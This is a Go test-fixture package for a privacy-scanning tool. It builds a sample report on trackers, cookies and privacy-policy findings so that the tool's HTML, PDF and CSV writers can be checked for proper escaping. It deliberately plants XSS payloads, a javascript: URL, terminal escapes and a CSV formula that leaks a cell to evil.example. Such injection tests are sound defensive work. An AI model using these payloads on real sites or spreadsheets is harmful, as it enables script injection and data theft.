// Package reporttest provides a rich, deterministic report.Report for the
// writers' golden tests and for browser tests of the HTML and PDF reports.
// Its strings include hostile page-derived text: markup that would run
// script if it were not escaped, javascript: URLs, terminal escapes, CSV
// formulas and Markdown metacharacters.
package reporttest

import (
	"bytes"
	"image"
	"image/color"
	"image/png"
	"time"

	"github.com/privscan/privscan/report"
)

// Hostile strings planted in the fixture. Each script payload sets
// window.pwned, so a browser test can tell whether any of them ran.
const (
	XSSScript  = `<script>window.pwned=1</script>`
	XSSAttr    = `"><img src=x onerror="window.pwned=2">`
	XSSSVG     = `'><svg onload=window.pwned=3>`
	JSURL      = `javascript:window.pwned=4//`
	TermEscape = "\x1b[31mRED\x1b[0m\x1b]0;owned\x07"
	CSVFormula = `=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`
	MDPipes    = `a | b | [link](javascript:alert(1)) **bold** @everyone #1`
)

// Titles of the fixture's findings, in report order.
var Titles = []string{
	"Meta Pixel keeps firing when the browser sends Global Privacy Control",
	"Meta Pixel is used but not named in the privacy policy",
	"Analytics cookies are set before any consent " + XSSScript,
	"LinkedIn Insight Tag is used although the policy denies it",
	"Cookie _ga lives 400 days; the policy says 1 year " + TermEscape,
	"HubSpot is named in the policy but was never seen",
	"The policy does not say how the site responds to Do Not Track",
}

func str(s string) *string   { return &s }
func num(f float64) *float64 { return &f }
func boolean(b bool) *bool   { return &b }
func ev(kind, profile, page, detail string) report.Evidence {
	return report.Evidence{Kind: kind, Profile: profile, Page: page, Detail: detail}
}

// Fixture returns a new report with every section filled in, times and
// versions fixed.
func Fixture() *report.Report {
	start := time.Date(2026, 1, 15, 10, 0, 0, 0, time.UTC)
	home := "https://shop.example/"
	about := "https://shop.example/about?q=" + XSSAttr
	privacy := "https://shop.example/privacy"
	r := &report.Report{
		SchemaVersion: report.SchemaVersion,
		Tool:          report.Tool{Name: "privscan", Version: "1.0.0-test"},
		Target:        home,
		StartedAt:     start,
		FinishedAt:    start.Add(2*time.Minute + 13*time.Second),
		Browser:       report.Browser{Product: "Chrome/159.0.0.0", UserAgent: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/159.0.0.0 Safari/537.36"},
		Profiles:      []string{"baseline", "gpc", "dnt"},
		Options: report.Options{MaxPages: 20, Depth: 2, Concurrency: 4, PageTimeout: "30s", Dwell: "5s",
			HostRules: "MAP *.example 127.0.0.1:8443"},
		Pages: []report.Page{
			{URL: home, Profile: "baseline", Status: 200, Title: "Shop — Home", LoadMS: 812, Requests: 41, Settled: true},
			{URL: about, Profile: "baseline", Status: 200, Title: XSSScript + " About us", LoadMS: 640, Requests: 33, Settled: true},
			{URL: privacy, Profile: "baseline", Status: 200, Title: "Privacy policy", LoadMS: 455, Requests: 12, Settled: true},
			{URL: JSURL, Profile: "baseline", Status: 0, Title: "", LoadMS: 0, Error: str("navigation blocked: " + TermEscape), ErrorKind: "blocked"},
			{URL: home, Profile: "gpc", Status: 200, Title: "Shop — Home", LoadMS: 790, Requests: 38, Settled: true},
			{URL: about, Profile: "gpc", Status: 200, Title: XSSScript + " About us", LoadMS: 602, Requests: 30, Settled: true},
			// Never went quiet within the dwell (a chat widget's polling).
			{URL: home, Profile: "dnt", Status: 200, Title: "Shop — Home", LoadMS: 801, Requests: 40},
			{URL: "https://shop.example/slow", Profile: "dnt", Status: 0, LoadMS: 30000, Error: str("timeout after 30s"), ErrorKind: "timeout"},
		},
		Trackers: []report.Tracker{
			{Vendor: "facebook", Name: "Meta Pixel", Category: "marketing", IDs: []string{"1234567890", XSSAttr},
				Profiles: []string{"baseline", "gpc", "dnt"}, Pages: []string{home, about},
				Evidence: []report.Evidence{ev("request", "gpc", home, "https://www.facebook.com/tr/?id=1234567890&ev=PageView")}},
			{Vendor: "google-analytics", Name: "Google Analytics", Category: "analytics", IDs: []string{"G-ABC123XYZ"},
				Profiles: []string{"baseline", "gpc"}, Pages: []string{home},
				Evidence: []report.Evidence{ev("request", "baseline", home, "https://www.google-analytics.com/g/collect?tid=G-ABC123XYZ")}},
			{Vendor: "google-tag-manager", Name: "Google Tag Manager", Category: "functional", IDs: []string{"GTM-K9P2QX"},
				Profiles: []string{"baseline", "gpc", "dnt"}, Pages: []string{home, about}},
			{Vendor: "linkedin", Name: "LinkedIn Insight Tag", Category: "marketing", IDs: []string{"998877"},
				Profiles: []string{"baseline"}, Blocked: []string{"gpc", "dnt"}, Pages: []string{home}},
			{Vendor: "recaptcha", Name: "Google reCAPTCHA", Category: "necessary", IDs: nil,
				Profiles: []string{"baseline", "gpc", "dnt"}, Pages: []string{about}},
		},
		Cookies: []report.Cookie{
			{Name: "_fbp", Domain: ".shop.example", Path: "/", Party: "first", LifetimeDays: num(90), DeclaredLifetimeDays: num(90),
				SameSite: "Lax", SetBy: "script", Setter: "https://connect.facebook.net/en_US/fbevents.js", Vendor: str("facebook"),
				Category: "marketing", Profiles: []string{"baseline", "gpc", "dnt"}, FirstPage: home},
			{Name: "_ga", Domain: ".shop.example", Path: "/", Party: "first", LifetimeDays: num(400), DeclaredLifetimeDays: num(730),
				SameSite: "Lax", SetBy: "script", Setter: "https://www.googletagmanager.com/gtag/js?id=G-ABC123XYZ", Vendor: str("google-analytics"),
				Category: "analytics", Profiles: []string{"baseline", "gpc"}, FirstPage: home},
			{Name: "session_id", Domain: "shop.example", Path: "/", Party: "first", Session: true, Secure: true, HTTPOnly: true,
				SameSite: "Strict", SetBy: "header", Setter: home, Category: "necessary", Profiles: []string{"baseline", "gpc", "dnt"}, FirstPage: home},
			{Name: CSVFormula, Domain: "shop.example", Path: "/", Party: "first", LifetimeDays: num(0.5), DeclaredLifetimeDays: num(0.5),
				Value: XSSScript, SetBy: "script", Setter: about, Category: "unknown", Profiles: []string{"baseline"}, FirstPage: about},
			{Name: "bcookie", Domain: ".linkedin.com", Path: "/", Party: "third", LifetimeDays: num(365), DeclaredLifetimeDays: num(365),
				Secure: true, SameSite: "None", SetBy: "header", Setter: "https://px.ads.linkedin.com/collect", Vendor: str("linkedin"),
				Category: "marketing", Profiles: []string{"baseline"}, FirstPage: home},
			{Name: "fr", Domain: ".facebook.com", Path: "/", Party: "third", LifetimeDays: num(90), DeclaredLifetimeDays: num(90),
				Secure: true, HTTPOnly: true, SameSite: "None", SetBy: "header", Setter: "https://www.facebook.com/tr/", Vendor: str("facebook"),
				Category: "marketing", Profiles: []string{"baseline", "gpc", "dnt"}, FirstPage: home},
		},
		ThirdParties: []report.ThirdParty{
			{Domain: "facebook.com", Requests: 14, SetCookies: true, Vendor: str("facebook"), Profiles: []string{"baseline", "gpc", "dnt"}},
			{Domain: "facebook.net", Requests: 3, Vendor: str("facebook"), Profiles: []string{"baseline", "gpc", "dnt"}},
			{Domain: "google-analytics.com", Requests: 9, Vendor: str("google-analytics"), Profiles: []string{"baseline", "gpc"}},
			{Domain: "googletagmanager.com", Requests: 6, Vendor: str("google-tag-manager"), Profiles: []string{"baseline", "gpc", "dnt"}},
			{Domain: "linkedin.com", Requests: 2, SetCookies: true, Vendor: str("linkedin"), Profiles: []string{"baseline"}},
			{Domain: "tracker" + XSSAttr + ".example", Requests: 1, Profiles: []string{"baseline"}},
		},
		Signals: report.Signals{
			GPCJSON: &report.GPCJSON{URL: "https://shop.example/.well-known/gpc.json", Status: 200, Valid: true, GPC: boolean(true), LastUpdate: str("2025-06-01")},
			Reads: map[string][]string{
				"globalPrivacyControl": {"https://cdn.cookielaw.org/scripttemplates/otSDKStub.js", "https://shop.example/js/app.js?x=" + XSSSVG},
				"doNotTrack":           {"https://www.googletagmanager.com/gtag/js?id=G-ABC123XYZ"},
			},
			USP: map[string]string{"baseline": "1YNN", "gpc": "1YYN", "dnt": "1YNN"},
		},
		Consent: report.Consent{CMP: str("onetrust"), Banner: true,
			Evidence: []report.Evidence{ev("dom", "baseline", home, "#onetrust-banner-sdk visible")}},
		Policy: &report.Policy{
			Found:    true,
			URL:      str(privacy),
			Title:    str("Privacy policy " + XSSScript),
			Language: str("en"),
			Vendors: []report.PolicyVendor{
				{Vendor: "google-analytics", Stance: "uses", Quote: "We use Google Analytics to understand how visitors use our site.", Heading: "Analytics"},
				{Vendor: "hubspot", Stance: "uses", Quote: "We use HubSpot to manage our newsletter. " + MDPipes, Heading: "Marketing"},
				{Vendor: "linkedin", Stance: "denies", Quote: "We do not use LinkedIn or any social media advertising pixels."},
			},
			Cookies: []report.PolicyCookie{
				{Name: "_ga", Provider: "Google", DurationText: "1 year", LifetimeDays: num(365)},
				{Name: "session_id", Provider: "shop.example", DurationText: "session", Session: true},
			},
			Documents: []report.PolicyDocument{
				{URL: home + "privacy/", FinalURL: str("chrome-error://chromewebdata/"), Status: num2(200), Kind: "privacy",
					Why: str("the browser showed its own error page (chrome-error://chromewebdata/): the link, or a redirect from it, leads to a host that could not be reached")},
				{URL: privacy, Status: num2(200), Kind: "privacy", Used: true},
			},
			DNT:      "not-mentioned",
			GPC:      "honored",
			GPCQuote: str("We honour Global Privacy Control (GPC) signals as a valid opt-out of the sale or sharing of personal information. " + XSSAttr),
			Mentions: map[string]bool{"cookies": true, "session_cookies": true, "persistent_cookies": true,
				"third_party_cookies": true, "analytics": true, "advertising": false, "web_beacons": false},
		},
		Findings: []report.Finding{
			{ID: "f1a2b3c4d5e6", Code: "gpc-not-honored", Severity: report.High, Vendor: str("facebook"), Title: Titles[0],
				Detail: "The policy says it honours GPC, yet the Meta Pixel loaded and sent PageView events under the gpc profile.",
				Evidence: []report.Evidence{
					ev("request", "gpc", home, "https://www.facebook.com/tr/?id=1234567890&ev=PageView"),
					ev("cookie", "gpc", home, "_fbp set by https://connect.facebook.net/en_US/fbevents.js"),
				},
				PolicyQuote: str("We honour Global Privacy Control (GPC) signals as a valid opt-out of the sale or sharing of personal information. " + XSSAttr)},
			{ID: "a9b8c7d6e5f4", Code: "undisclosed-vendor", Severity: report.High, Vendor: str("facebook"), Title: Titles[1],
				Detail: "Meta Pixel (advertising) ran on 2 pages; the policy never names Meta or Facebook.",
				Evidence: []report.Evidence{ev("request", "baseline", home, "https://www.facebook.com/tr/?id=1234567890&ev=PageView"),
					ev("script", "baseline", about, "https://connect.facebook.net/en_US/fbevents.js")}},
			{ID: "0c1d2e3f4a5b", Code: "tracking-before-consent", Severity: report.Medium, Vendor: str("google-analytics"), Cookie: str("_ga"),
				Title: Titles[2], Detail: CSVFormula,
				Evidence: []report.Evidence{ev("cookie", "baseline", home, "_ga set before the OneTrust banner was answered")}},
			{ID: "5b6c7d8e9f0a", Code: "undisclosed-vendor", Severity: report.Medium, Vendor: str("linkedin"), Title: Titles[3],
				Detail:      "The LinkedIn Insight Tag sent a conversion ping on the home page.",
				Evidence:    []report.Evidence{ev("request", "baseline", home, "https://px.ads.linkedin.com/collect?pid=998877&url="+JSURL)},
				PolicyQuote: str("We do not use LinkedIn or any social media advertising pixels.")},
			{ID: "77aa88bb99cc", Code: "cookie-lifetime-mismatch", Severity: report.Low, Vendor: str("google-analytics"), Cookie: str("_ga"),
				Title: Titles[4], Detail: "Requested lifetime 730 days (stored 400, Chrome's cap); the policy declares 1 year.",
				Evidence:    []report.Evidence{ev("cookie", "baseline", home, "_ga=GA1.1.…; Max-Age=63072000")},
				PolicyQuote: str("_ga | Google | 1 year " + MDPipes)},
			{ID: "ddeeff001122", Code: "disclosed-not-observed", Severity: report.Info, Vendor: str("hubspot"), Title: Titles[5],
				Detail:      "The policy says HubSpot is used; no HubSpot request, script or cookie was seen.",
				PolicyQuote: str("We use HubSpot to manage our newsletter. " + MDPipes)},
			{ID: "334455667788", Code: "dnt-undisclosed", Severity: report.Low, Title: Titles[6],
				Detail: "CalOPPA asks a site to disclose how it responds to Do Not Track; the policy is silent."},
		},
		Checks: []report.Check{
			{Code: "policy-not-found", Status: report.CheckPassed, Covered: "privacy policy read at " + privacy},
			{Code: "tracking-before-consent", Status: report.CheckFailed, Covered: "1 finding; recognised analytics, advertising, marketing or social vendors that ran before any consent choice: Meta Pixel, Google Analytics, LinkedIn Insight Tag; 1 unclassified third party contacted, not judged: tracker" + XSSAttr + ".example"},
			{Code: "tracking-after-reject", Status: report.CheckNotApplicable, Covered: "the scan did not run the reject journey (--consent)"},
			{Code: "gpc-not-honored", Status: report.CheckFailed, Covered: "1 finding; recognised advertising, marketing or social vendors that ran with GPC on: Meta Pixel"},
			{Code: "dnt-not-honored", Status: report.CheckNotApplicable, Covered: "the policy does not promise to honour Do Not Track"},
			{Code: "undisclosed-vendor", Status: report.CheckFailed, Covered: "2 findings; 5 recognised vendor products compared with the policy"},
			{Code: "undisclosed-cookie", Status: report.CheckNotApplicable, Covered: "the policy does not list its cookies by name (2 cookies declared)"},
			{Code: "cookie-lifetime-mismatch", Status: report.CheckFailed, Covered: "1 finding; 1 cookie lifetime compared with the lifetime the policy declares"},
			{Code: "disclosed-not-observed", Status: report.CheckFailed, Covered: "1 finding"},
			{Code: "dnt-undisclosed", Status: report.CheckFailed, Covered: "1 finding"},
			{Code: "consent-not-recorded", Status: report.CheckIncomplete, Covered: "the reject journey could not operate the banner: " + XSSScript},
		},
		Errors: []string{"browser restarted once after a crash " + TermEscape},
		Screenshots: []report.Screenshot{
			{Page: home, Profile: "baseline", Caption: "Consent banner on first visit", PNG: samplePNG(color.RGBA{0x1f, 0x4e, 0x79, 0xff})},
			{Page: about, Profile: "gpc", Caption: XSSScript, PNG: samplePNG(color.RGBA{0x27, 0x67, 0x49, 0xff})},
		},
	}
	r.Summary.Count(r.Findings)
	report.Sort(r)
	return r
}

// samplePNG draws a small, deterministic mock-up of a web page.
func samplePNG(accent color.RGBA) []byte {
	const w, h = 320, 200
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			c := color.RGBA{0xf7, 0xf8, 0xfa, 0xff}
			switch {
			case y < 28:
				c = accent
			case y > 60 && y < 70 && x > 20 && x < 220, y > 80 && y < 88 && x > 20 && x < 280, y > 96 && y < 104 && x > 20 && x < 250:
				c = color.RGBA{0xcb, 0xd5, 0xe0, 0xff}
			case y > 150 && y < 192 && x > 10 && x < 310:
				c = color.RGBA{0x2d, 0x37, 0x48, 0xff}
			}
			img.SetRGBA(x, y, c)
		}
	}
	var buf bytes.Buffer
	_ = png.Encode(&buf, img)
	return buf.Bytes()
}

func num2(v int) *int { return &v }
